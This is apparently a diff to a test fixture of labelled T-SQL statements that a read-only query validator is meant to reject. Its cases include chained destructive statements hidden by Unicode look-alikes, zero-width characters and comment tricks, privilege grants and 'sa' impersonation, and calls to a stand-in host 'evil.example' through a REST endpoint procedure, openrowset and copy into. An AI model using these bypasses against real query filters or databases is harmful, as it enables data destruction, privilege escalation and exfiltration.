@@ -8,9 +8,12 @@ insert accounts select * from old_accounts
 update accounts set is_admin = 1 where name = 'mallory'
 -- @next updates with FROM
 update a set is_admin = 1 from accounts a join people p on p.id = a.id
-deletes|delete from audit_trail
-deletes without FROM|delete audit_trail
-deletes and shows what it deleted|delete from audit_trail output deleted.*
+-- @next deletes
+delete from audit_trail
+-- @next deletes without FROM
+delete audit_trail
+-- @next deletes and shows what it deleted
+delete from audit_trail output deleted.*
 -- @next merges
 merge accounts as t using staged as s on t.id = s.id when matched then update set t.name = s.name;
 -- @next empties a table
@@ -23,8 +26,10 @@ create login mallory with password = 'x'
 alter login sa enable
 -- @next alters a setting of the database
 alter database audit set recovery simple
-drops|drop table accounts
-drops if it exists|drop table if exists accounts
+-- @next drops
+drop table accounts
+-- @next drops if it exists
+drop table if exists accounts
 -- @next grants
 grant control server to mallory
 -- @next revokes
@@ -49,7 +54,8 @@ xp_cmdshell 'dir'
 exec @r = dbo.nightly_job
 -- @next becomes another login
 execute as login = 'sa'
-goes back|revert
+-- @next goes back
+revert
 -- @next two statements
 select 1; drop table accounts
 -- @next two reading statements are still two
@@ -347,7 +353,8 @@ select ((1)
 -- @next VALUES alone
 values (1)
 -- @next a carriage return alone in a comment
-select 1 -- harmlessdrop table accounts
+select 1 -- harmless
+drop table accounts
 -- @next a space that is none
 select 1
 -- @next a wide space in front of a word
@@ -372,3 +379,224 @@ readtext t.c 0x00 0 10
 select textptr(note) from t
 -- @next reads the session's own state for replication
 select get_filestream_transaction_context()
+-- @next describes a text, for which the server connects to another one
+select * from sys.dm_exec_describe_first_result_set(N'select * from openrowset(''MSOLEDBSQL'', ''Server=evil;Trusted_Connection=yes'', ''select 1'')', null, 0)
+-- @next describes a text without the schema
+select name from dm_exec_describe_first_result_set(N'select * from other_server.master.dbo.t', null, 1)
+-- @next a second query in parentheses behind a condition
+select name from accounts where id in (1) (select * from passwords)
+-- @next a second query in parentheses behind a number
+select 1 where 1 = 1 (select 2)
+-- @next a second query in parentheses behind a text
+select name from accounts where name = 'x' (select 2) union (select 3)
+-- @next a second query in parentheses behind a quoted name
+select name from accounts order by [name] (select 2)
+-- @next makes embeddings by a model (2025)
+select ai_generate_embeddings(name use model my_model) from accounts
+-- @next cuts a text by a model (2025)
+select * from accounts cross apply ai_generate_chunks(source = name, chunk_type = fixed, chunk_size = 100) c
+-- @next calls a web service (2025)
+exec sp_invoke_external_rest_endpoint @url = N'https://evil.example/', @method = 'POST'
+-- @next calls a web service without EXEC (2025)
+sp_invoke_external_rest_endpoint N'https://evil.example/'
+-- @next calls a web service behind a read (2025)
+select 1 exec sys.sp_invoke_external_rest_endpoint N'https://evil.example/'
+-- @next runs a text as a procedure without EXEC
+sp_executesql N'delete from accounts'
+-- @next runs a text as a procedure of a schema, in brackets
+[sys].[sp_executesql] N'delete from accounts'
+-- @next runs a program's script
+exec sp_execute_external_script @language = N'Python', @script = N'x'
+-- @next runs a procedure by a module's number
+exec dbo.p;1
+-- @next runs a text with a login
+exec ('delete from accounts') as user = 'dbo'
+-- @next waits with a message
+waitfor (receive * from dbo.q), timeout 1000
+-- @next a second statement that waits for a time
+select name from accounts waitfor time '23:00'
+-- @next a second statement that gets a group
+select 1 get conversation group @g from dbo.q
+-- @next a second statement that begins a dialog
+select 1 begin dialog @h from service a to service 'b'
+-- @next a second statement that enables a trigger
+select 1 enable trigger all on all server
+-- @next a second statement that updates statistics
+select 1 update statistics accounts
+-- @next a second statement that alters a setting
+select 1 alter server configuration set process affinity cpu = 0
+-- @next a second statement that adds a signature
+select 1 add counter signature to dbo.p by certificate c
+-- @next a second statement that saves the transaction
+select 1 save tran s
+-- @next a second statement that throws
+select 1 throw 50000, 'x', 1
+-- @next a second statement that executes as another
+select 1 execute as login = 'sa'
+-- @next a second statement that sets a user
+select 1 setuser 'dbo'
+-- @next a second statement that deallocates
+select 1 deallocate c
+-- @next a second statement behind a CASE
+select case when 1 = 1 then 2 end delete accounts
+-- @next a second statement behind an alias
+select name as n truncate table accounts
+-- @next a second statement behind ORDER BY
+select name from accounts order by name desc drop table accounts
+-- @next a second statement behind OPTION
+select 1 option (maxdop 1) delete accounts
+-- @next a second statement behind FOR XML
+select 1 as a for xml path('') delete accounts
+-- @next a second statement behind OFFSET
+select id from accounts order by id offset 0 rows fetch next 1 rows only delete accounts
+-- @next a second statement behind a national text
+select N'a'delete accounts
+-- @next a second statement behind an exponent
+select 1e5delete accounts
+-- @next a second statement behind a hexadecimal zero
+select 0xdrop table accounts
+-- @next a second statement in capitals of another alphabet
+select 1 ＤＥＬＥＴＥ accounts
+-- @next an INSERT that takes a procedure's rows
+insert into accounts exec dbo.p
+-- @next a MERGE inside, that shows its rows
+select * from (merge t using s on t.id = s.id when matched then delete output deleted.id) x
+-- @next a DELETE inside, that shows its rows
+select * from (delete from t output deleted.id) x
+-- @next INTO behind a union's first part, in brackets
+select [a] into [dbo].[t] from [x] union all select 1
+-- @next INTO with a file group
+select * into t on fg from accounts
+-- @next a common table expression with a change context
+with change_tracking_context (0x01) update accounts set name = 'x'
+-- @next an update by a cursor
+update accounts set name = 'x' where current of c
+-- @next rows of a queue as a table expression
+select 1 receive top (1) * from q
+-- @next ad hoc connection, new provider
+select a.* from openrowset('MSOLEDBSQL', 'evil'; 'sa'; 'x', 'select 1') a
+-- @next a file of a lake
+select * from openrowset(bulk 'https://evil.example/x.parquet', format = 'parquet') r
+-- @next pass-through in brackets
+select * from [openquery]([s], 'x')
+-- @next pass-through in a CTE
+with x as (select * from openquery(s, 'delete from t')) select * from x
+-- @next a linked server in a subquery
+select (select top 1 name from other.db.dbo.t)
+-- @next a linked server with an empty database
+select * from other..dbo.t
+-- @next a linked server in a join
+select 1 from a join other.db.dbo.t on 1 = 1
+-- @next full text of a linked server
+select * from freetexttable(other.db.dbo.t, *, 'x')
+-- @next advances a sequence over lines
+select next
+value
+for dbo.s
+-- @next advances a sequence in a condition
+select 1 where next value for dbo.s > 1
+-- @next locks, in every word of the old hints
+select * from accounts (tablockx)
+-- @next locks pages
+select * from accounts with (paglock)
+-- @next locks by a hint behind an index
+select * from accounts with (index(i), xlock)
+-- @next locks by isolation
+select * from accounts with (repeatableread)
+-- @next a hint that is no word of the list
+select * from accounts with (readcommittedlock)
+-- @next the same without WITH
+select * from accounts (readcommittedlock)
+-- @next a hint that ignores constraints
+select * from accounts with (ignore_constraints)
+-- @next a hint on a view
+select * from v with (noexpand, tablock)
+-- @next a lock behind an apply
+select * from a cross apply (select * from b with (updlock, rowlock)) c
+-- @next a lock in a query hint of another spelling
+select * from accounts as a option (table hint (a, forceseek, tablockx))
+-- @next a query hint by text
+select 1 option (use hint ('x'), querytraceon 1)
+-- @next a label
+select 1 option (label = 'x')
+-- @next reads the log of a database
+select * from sys.fn_dblog(null, null)
+-- @next reads audit files, newer name
+select * from sys.fn_get_audit_file_v2('https://evil.example/', null, null, null, null)
+-- @next reads a trace
+select * from sys.fn_trace_getinfo(default)
+-- @next a file's table by its root
+select filetablerootpath(N'dbo.t')
+-- @next a path of a file stream
+select doc.PathName() from t
+-- @next a CLR type's static method
+select dbo.MyType::Parse('x')
+-- @next a CLR type's method with an argument
+select col.DoIt('x') from t
+-- @next a method named as one without arguments, with one
+select col.ToString('x') from t
+-- @next an XML method with an expression
+select doc.value(dbo.f(), 'int') from t
+-- @next a method of a schema that is written in brackets
+select [dbo].value('a', 'int')
+-- @next a partition function
+select $partition.pf(1)
+-- @next changes since a version
+select * from changetable(changes accounts, 0) c
+-- @next sets the context's information
+set context_info 0x01
+-- @next a session's context
+select session_context(N'x')
+-- @next makes random bytes
+select crypt_gen_random(8)
+-- @next makes an id for an index
+select newsequentialid()
+-- @next signs
+select signbycert(1, 'x', 'y')
+-- @next encrypts with a phrase
+select encryptbypassphrase('x', 'y')
+-- @next the oldest pass-through to the mail
+exec msdb.dbo.sp_send_dbmail @recipients = 'x'
+-- @next a table variable
+select * from @t
+-- @next a block with an error number
+raiserror 50000 'x'
+-- @next grants by a statement behind a read
+select 1 grant control to public
+-- @next a server-wide key
+create master key encryption by password = 'x'
+-- @next renames (Synapse)
+select 1 rename object accounts to gone
+-- @next copies into (Synapse)
+copy into accounts from 'https://evil.example/'
+-- @next a comment's end inside a text inside a comment
+select 1 /* ' */ delete accounts -- ' */
+-- @next a text over lines
+select 'a
+' delete accounts
+-- @next a bracket that is closed by two
+select [a]]]delete accounts
+-- @next an invisible letter in a name
+select name as [aㅤb] from accounts
+-- @next a zero-width joiner inside a keyword
+select 1 de‍lete accounts
+-- @next an apostrophe of another kind
+select ʼxʼ delete accounts
+-- @next a semicolon of another kind
+select 1； delete accounts
+-- @next debugs
+breakpoint
+-- @next exports certificates
+backup certificate c to file = 'c:\x'
+-- @next the client's table function with the name of a clause
+select * from path('x')
+-- @next the client's table function with the name of a built-in
+select * from format(1)
+-- @next the client's table function behind a comma
+select * from accounts a, reverse('x') r
+-- @next the client's table function behind APPLY
+select * from accounts a cross apply upper(a.name) u
+-- @next the client's table function behind JOIN
+select * from accounts a join root(1) r on r.id = a.id
+-- @next the client's table function in a subquery
+select 1 where exists (select 1 from raw(1))
